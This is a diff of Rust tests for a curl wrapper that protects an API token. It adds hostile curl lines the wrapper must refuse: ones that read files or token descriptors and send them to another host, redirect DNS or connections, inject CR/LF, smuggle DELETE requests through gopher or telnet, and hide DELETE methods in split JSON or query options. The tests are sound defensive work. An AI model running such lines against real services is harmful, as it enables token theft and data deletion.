@@ -823,6 +823,56 @@ fn what_could_lead_the_token_away_is_refused() {
             "curl -s -d @file DEV/x",
             "-q -K DEV --globoff -s -d @file DEV/x",
         ),
+        // The token's descriptor has a name that a transfer before it could read.
+        (
+            "curl -s -d @/dev/fd/5 ELSEWHERE/x --next -s DEV/x",
+            "exit 2: -d reads a file before the token",
+        ),
+        (
+            "curl -s -F a=@f ELSEWHERE/x --next -s DEV/x",
+            "exit 2: -F reads a file before the token",
+        ),
+        (
+            "curl -s -w @f DEV/x --next -s DEV/y",
+            "exit 2: -w reads a file before the token",
+        ),
+        (
+            "curl -s -d @f DEV/x --next -s -w @g DEV/y",
+            "-q -K DEV --globoff -s -d @f DEV/x --next -K DEV --globoff -s -w @g DEV/y",
+        ),
+        (
+            "curl -s DEV/x --next -s -d @f ELSEWHERE/x",
+            "-q -K DEV --globoff -s DEV/x --next -s -d @f ELSEWHERE/x",
+        ),
+        (
+            "curl -s --alt-svc f DEV/x",
+            "exit 2: --alt-svc leads the connection",
+        ),
+        (
+            "curl -s --doh-url https://doh.example/x DEV/x",
+            "exit 2: --doh-url leads the connection",
+        ),
+        (
+            "curl -s --haproxy-clientip 'a\r\nDELETE /x' DEV/x",
+            "exit 2: CR or LF",
+        ),
+        // Another protocol on the host and port of an endpoint.
+        (
+            "curl -s wss://tenants.example/acme/dev/reinfer_/x",
+            "exit 2: so its token is not sent",
+        ),
+        (
+            "curl -s gophers://other.example/_DELETE%20/x",
+            "exit 2: belongs to profile other",
+        ),
+        (
+            "curl -s gopher://127.0.0.1:9101/_DELETE%20/acme/local/reinfer_/x",
+            "exit 2: belongs to profile local",
+        ),
+        (
+            "curl -s telnet://localhost:9101",
+            "exit 2: belongs to profile local",
+        ),
         // Plain http stays on this machine.
         (
             "-p local curl -s -x http://proxy.example:1 LOCAL/x",
@@ -991,7 +1041,7 @@ fn what_could_lead_the_token_away_is_refused() {
 }
 
 /// Lines that are more than a read, with the path where the URL belongs.
-const WRITES: [&str; 60] = [
+const WRITES: [&str; 62] = [
     "-X DELETE 'BASE/api/v1/datasets/retail/orders'",
     "-XDELETE 'BASE/api/v1/datasets/retail/orders'",
     "-sXdElEtE 'BASE/api/v1/datasets/retail/orders'",
@@ -1035,6 +1085,8 @@ const WRITES: [&str; 60] = [
     "-F _method=DELETE 'BASE/api/v1/datasets/retail/orders/export'",
     "-F '_method[]=DELETE' 'BASE/api/v1/datasets/retail/orders/export'",
     "--json '{\"_method\":\"DELETE\"}' 'BASE/api/v1/datasets/retail/orders/export'",
+    "--json '{\"_met' --json 'hod\":\"DELETE\"}' 'BASE/api/v1/datasets/retail/orders/export'",
+    "--url-query +_method=DELETE 'BASE/api/v1/datasets/retail/orders'",
     // A form that is not on the line.
     "-d @form 'BASE/api/v1/datasets/retail/orders/export'",
     "-d @- 'BASE/api/v1/datasets/retail/orders/export'",
